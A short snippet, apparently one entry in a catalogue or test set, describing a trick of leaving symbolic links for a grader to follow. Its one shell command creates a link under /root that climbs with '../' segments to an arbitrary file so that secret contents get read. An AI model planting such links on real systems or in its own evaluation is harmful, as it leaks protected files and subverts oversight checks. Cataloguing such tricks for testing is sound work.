# Category: symbolic links left for the grader
# Escape: the same with links that climb.
# Sign: secret
# Asks: read
ln -sfn "../../../../../../../..$FILE" "/root/$TOKEN"
